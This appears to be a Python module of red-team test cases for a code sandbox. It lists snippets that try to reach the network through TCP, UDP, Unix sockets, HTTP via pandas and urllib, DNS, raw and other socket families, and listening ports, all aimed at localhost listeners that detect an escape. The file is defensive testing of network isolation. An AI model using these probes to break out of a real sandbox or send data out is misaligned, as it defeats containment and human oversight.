"""Attacks that call somebody: by every family of sockets, by name, and through libraries."""

from __future__ import annotations

from querist.sandbox.red_team.attack import Attack, claimed, heard

ATTACKS = (
    Attack(
        "tcp",
        "connects to a server on this machine",
        "import socket\nsocket.create_connection(('127.0.0.1', P['tcp']), 2)",
        heard,
    ),
    Attack(
        "udp",
        "sends a datagram to this machine",
        "import socket, time\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', P['udp'])); time.sleep(.2)",
        heard,
    ),
    Attack(
        "unix-path",
        "connects to a socket in a folder",
        "import socket\nsocket.socket(socket.AF_UNIX).connect(P['socket'])",
        heard,
    ),
    Attack(
        "unix-abstract",
        "connects to a named socket",
        "import socket\nsocket.socket(socket.AF_UNIX).connect(chr(0) + P['abstract'])",
        heard,
    ),
    Attack(
        "http-pandas",
        "fetches an address through pandas",
        "import pandas as pd\npd.read_csv(f\"http://127.0.0.1:{P['tcp']}/x.csv\")",
        heard,
    ),
    Attack(
        "http-urllib",
        "sends data with urllib",
        "import urllib.request\nurllib.request.urlopen(f\"http://127.0.0.1:{P['tcp']}/?stolen=1\", timeout=2)",
        heard,
    ),
    Attack(
        "dns",
        "asks a name server",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', 53)); s.send(b'x')\nprint(P['half'] + P['rest'])",
        claimed,
    ),
    Attack(
        "other-families",
        "opens netlink, packet, raw, vsock and Bluetooth sockets",
        "import socket\nfor family, kind in ((16, 3), (17, 3), (2, 3), (40, 1), (31, 3), (38, 5), (10, 1)):\n"
        "  try: socket.socket(family, kind); print(P['half'] + P['rest'])\n  except OSError: pass",
        claimed,
    ),
    Attack(
        "listen",
        "opens a port for others",
        "import socket\nsocket.create_server(('127.0.0.1', 0))\nprint(P['half'] + P['rest'])",
        claimed,
    ),
)
